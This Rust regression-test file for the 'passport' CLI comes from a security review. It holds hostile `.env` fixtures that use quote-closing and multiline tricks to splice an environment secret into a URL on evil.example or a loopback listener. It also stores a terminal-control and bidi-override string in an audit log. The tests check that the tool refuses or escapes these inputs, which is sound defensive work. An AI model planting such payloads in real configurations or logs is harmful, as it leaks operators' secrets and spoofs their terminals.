//! Review S14 (s14-r1): a `.env` file can never copy a variable of the
//! environment into the configuration, and `passport audit export` never
//! writes a terminal control raw. Each test failed on the reviewed code
//! (685a2688).
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

use std::process::{Command, Output, Stdio};

const BIN: &str = env!("CARGO_BIN_EXE_passport");

/// A secret of the operator's environment that a `.env` in a cloned
/// directory must never be able to copy into a configuration value.
const SECRET: &str = "s3cr3t-from-the-environment";

/// `passport ARGS` in `work`, with nothing of this environment but `PATH`.
fn passport(work: &std::path::Path, data: &std::path::Path, args: &[&str]) -> Command {
    let mut cmd = Command::new(BIN);
    cmd.args(args)
        .current_dir(work)
        .env_clear()
        .env("PATH", std::env::var_os("PATH").unwrap_or_default())
        .env("HOME", work)
        .env("XDG_DATA_HOME", data)
        .env("NO_COLOR", "1")
        .env("REVIEWSECRET", SECRET)
        .stdin(Stdio::null());
    cmd
}

/// `passport keys show` with `dotenv` as `.env`: refused (`config`), and
/// the secret nowhere in its output.
fn assert_refused_without_the_secret(dotenv: &str) {
    let data = tempfile::tempdir().unwrap();
    let work = tempfile::tempdir().unwrap();
    std::fs::write(work.path().join(".env"), dotenv).unwrap();
    let out = passport(work.path(), data.path(), &["keys", "show"])
        .output()
        .unwrap();
    let all = text(&out);
    assert!(
        !all.contains(SECRET),
        "{dotenv:?}: the environment's secret leaked into the configuration:\n{all}"
    );
    assert_eq!(out.status.code(), Some(2), "{dotenv:?}: {all}");
    assert!(all.contains("error[config]"), "{dotenv:?}: {all}");
}

fn text(o: &Output) -> String {
    format!(
        "exit {:?}\nstdout: {}\nstderr: {}",
        o.status.code(),
        String::from_utf8_lossy(&o.stdout),
        String::from_utf8_lossy(&o.stderr)
    )
}

/// Review S14: env.rs's `refuse_substitution` (a check in front of dotenvy)
/// skipped any value that *started* with a single quote, but dotenvy left
/// strong-quote mode at the closing quote and expanded a `$VAR` that
/// follows (`'…'$VAR`): the environment's secret ended up in the
/// configuration (here the issuer; the same worked for `CSP_DISCOVERY_URL`,
/// which `login`/`issue` then fetch).
#[test]
fn a_dotenv_value_that_closes_its_single_quote_then_expands_a_variable_is_refused() {
    assert_refused_without_the_secret(
        "AGENT_PASSPORT_ISSUER='https://evil.example/?k='${REVIEWSECRET}\n",
    );
}

/// Review S14: the same, through a double-quoted value continued on a
/// second line: the check read line by line and skipped a continuation line
/// without `=` (or one starting with `#`, which it took for a comment),
/// while dotenvy read the quoted value across the newline and expanded
/// `${VAR}` in it.
#[test]
fn a_dotenv_multiline_value_that_expands_a_variable_on_its_second_line_is_refused() {
    for dotenv in [
        "AGENT_PASSPORT_ISSUER=\"https://evil.example/?k\n${REVIEWSECRET}\"\n",
        "AGENT_PASSPORT_ISSUER=\"https://evil.example/?k\n#${REVIEWSECRET}\"\n",
    ] {
        assert_refused_without_the_secret(dotenv);
    }
}

/// Review S14, what the bypass was for: a `.env` in a cloned directory
/// sends a secret of the operator's environment to a host of its choosing,
/// in the discovery request `passport login` makes before anything can be
/// confirmed. The "provider" here is a loopback listener that records the
/// request line.
#[test]
fn a_dotenv_file_cannot_send_an_environment_secret_in_the_discovery_request() {
    use std::io::{BufRead as _, BufReader, Write as _};
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let (tx, rx) = std::sync::mpsc::channel::<String>();
    std::thread::spawn(move || {
        if let Ok((stream, _)) = listener.accept() {
            stream
                .set_read_timeout(Some(std::time::Duration::from_secs(5)))
                .unwrap();
            let mut line = String::new();
            let _ = BufReader::new(&stream).read_line(&mut line);
            let _ = (&stream).write_all(
                b"HTTP/1.1 404 Not Found\r\ncontent-length: 0\r\nconnection: close\r\n\r\n",
            );
            let _ = tx.send(line);
        }
    });
    let data = tempfile::tempdir().unwrap();
    let work = tempfile::tempdir().unwrap();
    std::fs::write(
        work.path().join(".env"),
        format!(
            "CSP_DISCOVERY_URL='http://127.0.0.1:{port}/x'${{REVIEWSECRET}}'/.well-known/openid-configuration'\n"
        ),
    )
    .unwrap();
    let out = passport(
        work.path(),
        data.path(),
        &["login", "--no-browser", "--timeout", "5"],
    )
    .env("CSP_CLIENT_ID", "cli")
    .env("CSP_REDIRECT_URI", "http://127.0.0.1:0/callback")
    .output()
    .unwrap();
    let request = rx
        .recv_timeout(std::time::Duration::from_secs(1))
        .unwrap_or_default();
    assert!(
        !request.contains(SECRET),
        "the provider received the environment's secret: {request:?}\n{}",
        text(&out)
    );
    assert_eq!(out.status.code(), Some(2), "{}", text(&out));
    assert!(text(&out).contains("error[config]"), "{}", text(&out));
}

/// Review S14: `passport audit export` writes the token service's stored
/// audit lines to stdout verbatim. They were serde_json, which escapes C0
/// controls but leaves C1 controls (U+009B is CSI) and bidi overrides
/// (U+202E) raw, and the server stores what clients name: a client's
/// requested `agent_id` in a `refuse` record (`governance::refused_event`),
/// a metadata document's `client_id`, a principal's `sub`. Every other
/// output of this CLI escapes such characters (term.rs); this one reached
/// the operator's terminal raw. Sealing now writes them as `\uXXXX` (the
/// same JSON). The record is sealed and appended exactly as the server
/// does it.
#[tokio::test(flavor = "multi_thread")]
async fn audit_export_never_writes_raw_c1_controls_or_bidi_overrides() {
    use passport_audit::chain::ChainState;
    use passport_audit::{Action, AuditRecord, Outcome};
    use passport_store::server::{AuditAppend, Database};

    let data = tempfile::tempdir().unwrap();
    let work = tempfile::tempdir().unwrap();
    let db_path = work.path().join("server.db");
    let db_url = db_path.to_str().unwrap().to_owned();
    let now = 1_800_000_000;
    {
        let db = Database::open(&db_url, now).await.unwrap();
        let mut chain = ChainState::new("c1");
        let hostile = "bot\u{9b}2J\u{9b}31mall clear\u{202e}exe.txt";
        let record = AuditRecord::new(now, Action::Refuse, Outcome::Refused);
        let mut record = record;
        record.agent_id = Some(hostile.to_owned());
        record.client_id = Some(hostile.to_owned());
        let sealed = chain.seal(&record).unwrap();
        db.append_audit(
            "c1",
            vec![AuditAppend {
                seq: sealed.seq,
                at: now,
                line: String::from_utf8(sealed.line).unwrap(),
            }],
            &sealed.hash,
            now,
        )
        .await
        .unwrap();
    }
    let out = passport(
        work.path(),
        data.path(),
        &["audit", "export", "--database", &db_url],
    )
    .output()
    .unwrap();
    let stdout = String::from_utf8_lossy(&out.stdout).into_owned();
    assert_eq!(out.status.code(), Some(0), "{}", text(&out));
    assert!(
        stdout.contains("bot"),
        "the record was not exported: {}",
        text(&out)
    );
    let raw: Vec<char> = stdout
        .chars()
        .filter(|c| ('\u{80}'..='\u{9f}').contains(c) || ('\u{202a}'..='\u{202e}').contains(c))
        .collect();
    assert!(
        raw.is_empty(),
        "audit export wrote terminal controls raw: {raw:?} in {stdout:?}"
    );
}
